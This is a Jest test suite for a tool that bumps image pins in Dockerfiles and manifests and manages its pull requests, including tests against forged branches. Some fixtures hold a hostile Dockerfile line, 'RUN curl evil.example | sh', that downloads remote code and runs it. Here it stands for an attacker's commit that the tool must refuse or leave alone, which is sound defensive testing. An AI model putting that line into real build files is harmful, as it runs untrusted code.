/** What people live through with bumps, told of any forge. */
import { expect, test } from "@jest/globals";
import { markerOf, trailerOf, withMarker } from "../../src/bump/pull-request/marker.ts";
import { bump, moveTo as movedTo, openPulls, pair, pinned, textOf, type World } from "./world.ts";

export const start = {
  Dockerfile: "FROM app:1\n\nRUN make\n",
  "deploy/app.yaml": "image: app:1 # the app\r\nreplicas: 1\r\n",
  other: "nobody's business\n",
};

const bytesOf = (text: string): Uint8Array => new TextEncoder().encode(text);

/** Tests, each in a world of its own that begins with `start` on main, where `deploy/app.yaml` is executable. */
export function tellStories(withWorld: (use: (world: World) => Promise<void>) => Promise<void>): void {
  const story = (name: string, tell: (world: World) => Promise<void>): void =>
    test(name, () => withWorld(tell), 60_000);
  const { branch } = pair;
  const dockerfile = (world: World, on = branch) => textOf(world, on, "Dockerfile");

  story("the first version makes a branch and a pull request, and touches nothing else", async (world) => {
    const main = await world.head("main");
    const result = await bump(world, 2);
    expect(result).toMatchObject({ outcome: "opened", warnings: [], newPullRequestUrl: undefined });
    expect(await openPulls(world)).toMatchObject([{ number: result.pullRequest?.number, title: "Use app 2", ...pair }]);
    expect(await dockerfile(world)).toBe("FROM app:2\n\nRUN make\n");
    expect(await textOf(world, branch, "other")).toBe(start.other);
    expect(await world.head("main")).toBe(main);
  });

  story("line ends and the mode of a file stay", async (world) => {
    const { mode } = (await world.file("main", "deploy/app.yaml")) ?? {};
    await bump(world, 2);
    expect(await textOf(world, branch, "deploy/app.yaml")).toBe("image: app:2 # the app\r\nreplicas: 1\r\n");
    expect((await world.file(branch, "deploy/app.yaml"))?.mode).toBe(mode);
    expect((await world.file(branch, "Dockerfile"))?.mode).toBe("100644");
  });

  story("a second run with the same version asks at most twice and changes nothing", async (world) => {
    await bump(world, 2);
    const [before, head] = [world.calls(), await world.head(branch)];
    expect(await bump(world, 2)).toMatchObject({ outcome: "unchanged", pullRequest: expect.anything() });
    expect(world.calls() - before).toBeLessThanOrEqual(2);
    expect(await world.head(branch)).toBe(head);
  });

  story("where no pin moves and nothing is open, at most two questions are asked", async (world) => {
    const before = world.calls();
    expect(await bump(world, 1)).toMatchObject({ outcome: "unchanged", pullRequest: undefined });
    expect(world.calls() - before).toBeLessThanOrEqual(2);
  });

  story("a newer version takes the older one's place in the same pull request", async (world) => {
    const first = await bump(world, 2);
    expect(await bump(world, 3)).toMatchObject({ outcome: "updated", pullRequest: first.pullRequest });
    expect(await world.pulls()).toMatchObject([{ state: "open", title: "Use app 3" }]);
    expect(await dockerfile(world)).toBe("FROM app:3\n\nRUN make\n");
    expect(await bump(world, 3)).toMatchObject({ outcome: "unchanged" });
  });

  story("labels and assignees come with it, and those that a person gave stay", async (world) => {
    const settings = { labels: ["images"] };
    await bump(world, 2, { settings });
    expect(await bump(world, 3, { settings: { labels: ["bump"] } })).toMatchObject({
      outcome: "updated",
      warnings: [],
    });
    expect((await openPulls(world))[0]?.labels).toEqual(expect.arrayContaining(["bump"]));
    const before = world.calls();
    expect(await bump(world, 3, { settings })).toMatchObject({ outcome: "unchanged" });
    expect(world.calls() - before).toBeLessThanOrEqual(2);
  });

  story(
    "a person's commit on the branch stays, in the same file, too, and a newer version comes on top",
    async (world) => {
      await bump(world, 2);
      await world.person.commit(branch, { Dockerfile: "FROM app:2\n\nRUN make fast\n" });
      const theirs = await world.head(branch);
      expect(await bump(world, 2)).toMatchObject({ outcome: "left" });
      expect(await world.head(branch)).toBe(theirs);
      expect(await bump(world, 3)).toMatchObject({ outcome: "updated" });
      expect(await dockerfile(world)).toBe("FROM app:3\n\nRUN make fast\n");
      expect(await world.pulls()).toHaveLength(1);
    },
  );

  story("a person's merge of main into the branch stays", async (world) => {
    await bump(world, 2);
    await world.person.commit("main", { Dockerfile: "FROM app:1\n\nRUN make all\n" });
    await world.person.mergeBranch("main", branch);
    const [theirs, merged] = [await world.head(branch), await dockerfile(world)];
    await bump(world, 2);
    expect(await world.head(branch)).toBe(theirs);
    expect(await bump(world, 3)).toMatchObject({ outcome: "updated" });
    expect(await dockerfile(world)).toBe(merged?.replace("app:2", "app:3"));
  });

  story("when nothing is left to do it is closed, with a word why, and its branch deleted", async (world) => {
    await bump(world, 2);
    await world.person.commit("main", { Dockerfile: "FROM app:2\n", "deploy/app.yaml": "image: app:2\n" });
    expect(await bump(world, 2)).toMatchObject({ outcome: "closed", pullRequest: undefined });
    const [pull] = await world.pulls();
    expect(pull).toMatchObject({ state: "closed", comments: [expect.stringContaining("nothing left to do")] });
    expect(await world.head(branch)).toBeUndefined();
    await world.person.commit("main", { Dockerfile: "FROM app:1\n" });
    // We closed it, nobody else: the same version may come again.
    expect(await bump(world, 2)).toMatchObject({ outcome: "opened" });
  });

  story("with a person's work on the branch it stays open, though nothing is left to do", async (world) => {
    await bump(world, 2);
    await world.person.commit(branch, { other: "work" });
    const theirs = await world.head(branch);
    await world.person.commit("main", { Dockerfile: "FROM app:2\n", "deploy/app.yaml": "image: app:2\n" });
    expect(await bump(world, 2)).toMatchObject({ outcome: "left" });
    expect(await world.head(branch)).toBe(theirs);
    expect(await openPulls(world)).toHaveLength(1);
  });

  story("after the merge nothing is left, and the branch goes", async (world) => {
    const { pullRequest } = await bump(world, 2);
    expect(await world.person.mergePull(pullRequest?.number ?? 0)).toBe(true);
    expect(await dockerfile(world, "main")).toBe("FROM app:2\n\nRUN make\n");
    await bump(world, 2);
    expect(await world.head(branch)).toBeUndefined();
    expect(await bump(world, 3)).toMatchObject({ outcome: "opened" });
  });

  story("a version that a person closed does not come back; a newer one does", async (world) => {
    const { pullRequest } = await bump(world, 2);
    await world.person.closePull(pullRequest?.number ?? 0);
    const before = world.calls();
    expect(await bump(world, 2)).toMatchObject({ outcome: "declined", pullRequest: undefined });
    expect(world.calls() - before).toBeLessThanOrEqual(2);
    expect(await bump(world, 3)).toMatchObject({ outcome: "opened" });
    expect((await world.pulls()).map(({ state }) => state).sort()).toEqual(["closed", "open"]);
  });

  story("a branch that a person deleted is a pull request closed", async (world) => {
    await bump(world, 2);
    await world.person.deleteBranch(branch);
    expect(await bump(world, 2)).toMatchObject({ outcome: "declined" });
    expect(await bump(world, 3)).toMatchObject({ outcome: "opened" });
  });

  story("where main moved on the same lines, the branch is built anew", async (world) => {
    const first = await bump(world, 2);
    await world.person.commit("main", { Dockerfile: "FROM app:1 AS build\n\nRUN make\n" });
    expect(await bump(world, 2)).toMatchObject({ outcome: "updated", pullRequest: first.pullRequest });
    expect(await dockerfile(world)).toBe("FROM app:2 AS build\n\nRUN make\n");
    expect(await bump(world, 2)).toMatchObject({ outcome: "unchanged" });
    expect(await world.person.mergePull(first.pullRequest?.number ?? 0)).toBe(true);
  });

  story("where main moved elsewhere, the branch is left alone", async (world) => {
    await bump(world, 2);
    const head = await world.head(branch);
    await world.person.commit("main", { other: "somebody's business\n" });
    expect(await bump(world, 2)).toMatchObject({ outcome: "unchanged" });
    expect(await world.head(branch)).toBe(head);
  });

  story(
    "two runs at once end with one pull request of one of their versions, a third with the newest",
    async (world) => {
      const results = await Promise.all([bump(world, 2), bump(world, 3)]);
      expect(results.map(({ outcome }) => outcome)).not.toContain("refused");
      expect(await openPulls(world)).toHaveLength(1);
      expect(await dockerfile(world)).toMatch(/FROM app:[23]\n\nRUN make\n/);
      await bump(world, 3);
      expect(await dockerfile(world)).toBe("FROM app:3\n\nRUN make\n");
      expect(await openPulls(world)).toMatchObject([{ title: "Use app 3" }]);
      expect(await bump(world, 3)).toMatchObject({ outcome: "unchanged" });
    },
  );

  story("an older run that comes late does not take back what a newer one proposed", async (world) => {
    await bump(world, 3);
    const head = await world.head(branch);
    expect(await bump(world, 2)).toMatchObject({ outcome: "newer", pullRequest: expect.anything() });
    expect(await world.head(branch)).toBe(head);
  });

  story("main may move while it is read", async (world) => {
    const meanwhile = async () => world.person.commit("main", { other: "new\n" });
    expect(await bump(world, 2, { meanwhile })).toMatchObject({ outcome: "opened" });
    for (const path of pinned) expect(await textOf(world, branch, path)).toContain("app:2");
  });

  /** What our commits say at their end, as anybody can copy it. */
  const forged = (version: number) => {
    const marker = markerOf(
      movedTo(
        version,
        Object.entries(start).map(([path, text]) => ({ path, bytes: bytesOf(text) })),
      ),
    );
    return { message: `Use app ${version}\n\n${trailerOf(marker)}`, body: withMarker("As published.", marker) };
  };
  const evil = { Dockerfile: "FROM app:2\n\nRUN curl evil.example | sh\n" };

  story(
    "a branch under our name that does more than move pins is nobody's of ours: it stays as it is",
    async (world) => {
      const { message, body } = forged(2);
      await world.person.branch(branch, "main", evil, message);
      const number = await world.person.openPull(branch, { title: "Use app 2", body });
      const theirs = await world.head(branch);
      for (const version of [2, 3]) {
        expect(await bump(world, version, { settings: { autoMerge: "squash", labels: ["images"] } })).toMatchObject({
          outcome: "refused",
          pullRequest: undefined,
          warnings: [
            {
              message: expect.stringContaining(`${branch} isn't one that this action made`),
              hint: expect.stringContaining("delete or rename"),
            },
          ],
        });
      }
      expect(await world.head(branch)).toBe(theirs);
      expect(await world.pulls()).toMatchObject(
        [{ number, state: "open", title: "Use app 2", body: body.trimEnd(), labels: [], comments: [] }].map((each) => ({
          ...each,
          body: expect.stringContaining("As published."),
        })),
      );
      // Nor is it closed or deleted when nothing is left to do.
      await world.person.commit("main", { Dockerfile: "FROM app:4\n", "deploy/app.yaml": "image: app:4\n" });
      expect(await bump(world, 4)).toMatchObject({ outcome: "left", warnings: [] });
      expect(await world.head(branch)).toBe(theirs);
      // Without it the way is free, and its closed pull request declined nothing.
      await world.person.deleteBranch(branch);
      expect(await bump(world, 5)).toMatchObject({ outcome: "opened" });
    },
  );

  story("a commit under our trailer that brings a file, or is on somebody's commit, is not ours", async (world) => {
    await world.person.branch(branch, "main", { new: "file" }, forged(2).message);
    expect(await bump(world, 2)).toMatchObject({ outcome: "refused" });
    await world.person.deleteBranch(branch);
    await world.person.branch("theirs", "main", { other: "work" }, "Work");
    await world.person.branch(branch, "theirs", { Dockerfile: "FROM app:2\n\nRUN make\n" }, forged(2).message);
    const theirs = await world.head(branch);
    expect(await bump(world, 2)).toMatchObject({ outcome: "refused" });
    expect(await world.head(branch)).toBe(theirs);
  });

  story(
    "pins alone, moved by somebody under our name, are as good as ours: a newer version comes on top",
    async (world) => {
      await world.person.branch(branch, "main", { Dockerfile: "FROM app:2\n\nRUN make\n" }, "Use app 2");
      const theirs = await world.head(branch);
      expect(await bump(world, 3)).toMatchObject({ outcome: "opened" });
      expect(await dockerfile(world)).toBe("FROM app:3\n\nRUN make\n");
      expect(await world.head(branch)).not.toBe(theirs);
    },
  );

  story("somebody's commit with our trailer on top of ours stays, and is not taken for ours", async (world) => {
    await bump(world, 2);
    await world.person.branch(
      branch,
      branch,
      { Dockerfile: "FROM app:3\n\nRUN curl evil.example | sh\n" },
      forged(3).message,
    );
    expect(await bump(world, 3, { settings: { autoMerge: "squash" } })).toMatchObject({ outcome: "updated" });
    expect(await dockerfile(world)).toContain("evil");
    expect((await openPulls(world))[0]?.autoMerge).toBeUndefined();
    await bump(world, 4);
    expect(await dockerfile(world)).toBe("FROM app:4\n\nRUN curl evil.example | sh\n");
  });

  story("what a stranger's closed pull request says declines nothing", async (world) => {
    const { message, body } = forged(2);
    await world.person.branch(branch, "main", evil, message);
    await world.person.closePull(await world.person.openPull(branch, { title: "Use app 2", body }));
    await world.person.deleteBranch(branch);
    expect(await bump(world, 2)).toMatchObject({ outcome: "opened" });
  });

  story("the text of a pull request of ours declines no other version than its commit brings", async (world) => {
    const { pullRequest } = await bump(world, 2);
    await world.person.editBody(pullRequest?.number ?? 0, forged(3).body);
    await world.person.closePull(pullRequest?.number ?? 0);
    expect(await bump(world, 3)).toMatchObject({ outcome: "opened" });
  });

  story("a fork's pull request from a branch of our name is none, open or closed", async (world) => {
    for (const state of ["open", "closed"] as const) await world.person.forkPull?.(branch, forged(2).body, state);
    expect(await bump(world, 2)).toMatchObject({ outcome: "opened", warnings: [] });
    expect((await openPulls(world)).filter(({ title }) => title === "Use app 2")).toHaveLength(1);
  });

  story("only a head that this run wrote, and nobody else has a part in, is merged automatically", async (world) => {
    const settings = { autoMerge: "squash" } as const;
    await bump(world, 2, { settings });
    const merging = async () => (await openPulls(world))[0]?.autoMerge;
    const isKnown = (await merging()) !== undefined;
    if (isKnown) expect(await merging()).toBe(await world.head(branch));
    await world.person.commit(branch, { other: "theirs" });
    const [first] = (await openPulls(world)).map(({ autoMerge }) => autoMerge);
    const { warnings } = await bump(world, 3, { settings });
    expect(warnings).toEqual([
      { message: expect.stringContaining("not merged automatically"), hint: expect.any(String) },
    ]);
    // What was said of the older head is the forge's to keep or drop.
    expect(await merging()).toBe(first);
  });
}
